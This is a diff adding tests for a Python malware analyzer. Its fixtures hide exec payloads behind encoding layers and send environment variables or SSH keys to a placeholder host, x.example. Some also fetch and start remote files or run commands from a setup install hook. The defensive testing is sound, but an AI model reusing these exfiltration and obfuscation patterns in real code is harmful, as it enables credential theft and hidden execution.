@@ -1,0 +1,233 @@
+import { deflateSync } from 'node:zlib';
+import { describe, expect, test } from 'vitest';
+import { LABEL } from '../js/labels.ts';
+import { analyzePython } from './facts.ts';
+
+const base64 = (text: string): string => Buffer.from(text).toString('base64');
+
+/** The code that a source runs, with the layers that hid it. */
+function run(source: string): (string | null)[] {
+  return analyzePython(source, { script: true }).codeSinks.map((sink) =>
+    sink.layers.length > 0 ? `${sink.layers.join('>')}: ${sink.text}` : sink.text,
+  );
+}
+
+/** What reaches what, while the source is loaded unless it says otherwise. */
+function flows(source: string): string[] {
+  return analyzePython(source, { script: true }).flow.flows.map(
+    (flow) =>
+      `${Object.entries(LABEL)
+        .filter(([, bit]) => (flow.labels & bit) !== 0)
+        .map(([name]) => name)
+        .join('+')} > ${flow.sinkName}${flow.live ? '' : ' (called)'}`,
+  );
+}
+
+const PAYLOAD = 'import os;print(os.name)';
+const codes = Array.from(PAYLOAD, (char) => char.charCodeAt(0));
+
+describe('text that is decoded and run', () => {
+  const zipped = deflateSync(Buffer.from(PAYLOAD)).toString('base64');
+  test.each([
+    ['an alias of a module', `import base64 as b;exec(b.b64decode("${base64(PAYLOAD)}"))`, 'base64'],
+    ['a name of a module', `from base64 import b64decode as d\nexec(d("${base64(PAYLOAD)}"))`, 'base64'],
+    ['a star import', `from base64 import *\nexec(b64decode("${base64(PAYLOAD)}"))`, 'base64'],
+    ['codes', `exec(''.join(map(chr, [${codes.join(', ')}])))`, 'charcode'],
+    [
+      'codes by arithmetic and a looked-up builtin',
+      `exec(''.join(map(getattr(__builtins__, 'c'+'hr'), [${codes.map((code) => `${code * 3}//3`).join(', ')}])))`,
+      'charcode',
+    ],
+    [
+      'bytes in a loop',
+      `s = ''\nfor c in [${codes.map((code) => code ^ 7).join(',')}]:\n  s += chr(c ^ 7)\nexec(s)`,
+      'xor>charcode',
+    ],
+    [
+      'a helper',
+      `import zlib, base64\ndef d(s):\n  return zlib.decompress(base64.b64decode(s))\nexec(d("${zipped}"))`,
+      'base64>zlib',
+    ],
+    [
+      'a lambda that turns it round',
+      `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'${Array.from(zipped).toReversed().join('')}'))`,
+      'reverse>base64>zlib',
+    ],
+    ['hex', `exec(bytes.fromhex("${Buffer.from(PAYLOAD).toString('hex')}"))`, 'hex'],
+    ['a codec', `import codecs\nexec(codecs.decode("vzcbeg bf;cevag(bf.anzr)", "rot13"))`, 'rot13'],
+    [
+      'compile',
+      `exec(compile(__import__("base64").b64decode("${base64(PAYLOAD)}"), "<s>", "exec"))`,
+      'base64',
+    ],
+    [
+      'globals',
+      `g = globals()\ng['__builtins__']\nexec(__import__('base64').b64decode("${base64(PAYLOAD)}").decode())`,
+      'base64',
+    ],
+    ['a replaced filling', `exec("${Array.from(PAYLOAD).join('~')}".replace("~", ""))`, 'filler'],
+    [
+      'a whole number',
+      `exec((${BigInt(`0x${Buffer.from(PAYLOAD).toString('hex')}`)}).to_bytes(${PAYLOAD.length}, 'big'))`,
+      'number',
+    ],
+    ['full-width letters', `ｅｘｅｃ(__import__("base64").b64decode("${base64(PAYLOAD)}"))`, 'base64'],
+    [
+      'a key that goes round',
+      `from itertools import cycle\nk = "key"\nexec(''.join(chr(a ^ ord(b)) for a, b in zip([${codes.map((code, index) => code ^ 'key'.charCodeAt(index % 3)).join(',')}], cycle(k))))`,
+      'xor>charcode',
+    ],
+    [
+      'a class',
+      `import base64\nclass D:\n  def __init__(self, s): self.s = s\n  def go(self): return base64.b64decode(self.s)\nexec(D("${base64(PAYLOAD)}").go())`,
+      'base64',
+    ],
+    [
+      'format',
+      `exec("{}{}".format(__import__("base64").b64decode("${base64(PAYLOAD)}").decode(), ""))`,
+      'base64',
+    ],
+  ])('%s', (_how, source, layers) => {
+    expect(run(source)).toContain(`${layers}: ${PAYLOAD}`);
+  });
+
+  test('a docstring hides nothing, and neither does a comment', () => {
+    expect(run('"""\n"""\nexec("a = 1") # """')).toEqual(['a = 1']);
+  });
+
+  test('a text that evaluates to code is followed', () => {
+    expect(run(`eval('exe' + 'c')("a = 1")`)).toContain('a = 1');
+  });
+
+  test('a dispatcher that jumps about is walked', () => {
+    expect(
+      run(
+        'state = 3\nout = ""\nwhile True:\n  if state == 3:\n    out += "a="\n    state = 9\n  elif state == 9:\n    out += "1"\n    break\nexec(out)',
+      ),
+    ).toContain('a=1');
+  });
+});
+
+describe('data that leaves', () => {
+  test.each([
+    [
+      'the environment',
+      'import os, requests\nrequests.post("https://x.example", json=dict(os.environ))',
+      'envAll > requests.post',
+    ],
+    [
+      'a name in a lookup',
+      'import socket\nsocket.gethostbyname(socket.gethostname() + ".x.example")',
+      'host > socket.gethostbyname',
+    ],
+    [
+      'a key file',
+      'import os, requests\nwith open(os.path.expanduser("~/.ssh/id_rsa")) as f:\n  requests.post("https://x.example", data=f.read())',
+      'credential+file > requests.post',
+    ],
+    [
+      'through a function',
+      'import os, requests\ndef send(what):\n  requests.post("https://x.example", data=what)\nsend(str(os.environ))',
+      'envAll > requests.post',
+    ],
+    [
+      'in a session',
+      'import os, requests\ns = requests.Session()\ns.post("https://x.example", data=os.environ.copy())',
+      'envAll > requests.Session().post',
+    ],
+    [
+      'a socket',
+      'import os, socket\ns = socket.socket()\ns.connect(("x.example", 4444))\ns.send(str(os.environ).encode())',
+      'envAll > socket.socket().send',
+    ],
+    [
+      'in a thread',
+      'import os, requests, threading\ndef go():\n  requests.post("https://x.example", data=dict(os.environ))\nthreading.Thread(target=go).start()',
+      'envAll > requests.post',
+    ],
+    [
+      'what a command printed',
+      'import os, requests\nrequests.post("https://x.example", data=os.popen("whoami").read())',
+      'host > requests.post',
+    ],
+    [
+      'only when called',
+      'import os, requests\ndef go():\n  requests.post("https://x.example", data=dict(os.environ))',
+      'envAll > requests.post (called)',
+    ],
+  ])('%s', (_what, source, expected) => {
+    expect(flows(source)).toContain(expected);
+  });
+
+  test('an answer that is run', () => {
+    expect(flows('import requests\nexec(requests.get("https://x.example/p").text)')).toContain(
+      'network > exec',
+    );
+  });
+
+  test('a file that is fetched and started', () => {
+    expect(
+      flows(
+        'import os, urllib.request\np = os.path.join(os.getenv("TEMP"), "x.exe")\nurllib.request.urlretrieve("https://x.example/x.exe", p)\nos.startfile(p)',
+      ),
+    ).toContain('envNamed+network > os.startfile');
+  });
+});
+
+describe('what runs when', () => {
+  const setup = `from setuptools import setup\nfrom setuptools.command.install import install\nclass P(install):\n  def run(self):\n    __import__('os').system('id')\nsetup(cmdclass={'install': P})`;
+
+  test('a command class of a setup script runs', () => {
+    expect(analyzePython(setup, { script: true }).commands).toMatchObject([
+      { name: 'os.system', line: 'id', live: true },
+    ]);
+  });
+
+  test('the main block runs in a program only', () => {
+    const source = 'import os\nif __name__ == "__main__":\n  os.system("id")';
+    expect(analyzePython(source).commands).toMatchObject([{ live: false }]);
+    expect(analyzePython(source, { script: true }).commands).toMatchObject([{ live: true }]);
+  });
+
+  test('a program that is written to a file is a layer', () => {
+    const { decoded } = analyzePython(
+      'open("/tmp/x.py", "w").write("import os; os.system(\'id\')  # dropped")',
+    );
+    expect(decoded).toMatchObject([{ layers: ['written'], text: expect.stringContaining('os.system') }]);
+  });
+});
+
+describe('hostile sources', () => {
+  test('nesting is a problem that is told', () => {
+    expect(analyzePython('('.repeat(100_000)).problem).toBe('nesting');
+  });
+
+  test('one broken statement hides no other', () => {
+    expect(run('x = = 1\nexec("a = 1")\ndef f(:\n  pass\n')).toContain('a = 1');
+  });
+
+  test('Python 2 is read', () => {
+    const facts = analyzePython('print "x"\ntry:\n  exec "a = 1"\nexcept Exception, e:\n  print e');
+    expect(facts).toMatchObject({ problem: null, codeSinks: [{ text: 'a = 1' }] });
+  });
+
+  test.each([
+    ['powers', 'x = 9 ** 9 ** 9 ** 9'],
+    ['repeats', 'x = "a" * 10 ** 12'],
+    ['doubling', `x = "a"\n${'x = x + x\n'.repeat(200)}`],
+    ['doubling lists', `x = [1]\n${'x = x + x\n'.repeat(200)}`],
+    ['recursion', 'def f(n): return f(n - 1) + f(n - 2)\nf(10 ** 6)'],
+    ['loops', 'while True:\n  x = 1\n'],
+    ['counting', 'i = 0\nwhile True:\n  i += 1'],
+    ['ranges', 'for a in range(10**5):\n  for b in range(10**5):\n    for c in range(10**5):\n      x = a'],
+    ['a long chain', `x = ${'"a" + '.repeat(20_000)}"b"`],
+    ['self-inclusion', 'x = []\nx.append(x)\nstr(x)\nprint(x)\nrequests = x'],
+    ['an eval of itself', 's = "eval(s)"\neval(s)'],
+    [
+      'names like members',
+      '__proto__ = 1\nconstructor = 2\nx = {"__proto__": 1}["toString"]\n__proto__.constructor()',
+    ],
+  ])('%s end', (_what, source) => {
+    expect(analyzePython(source)).toBeDefined();
+  });
+});
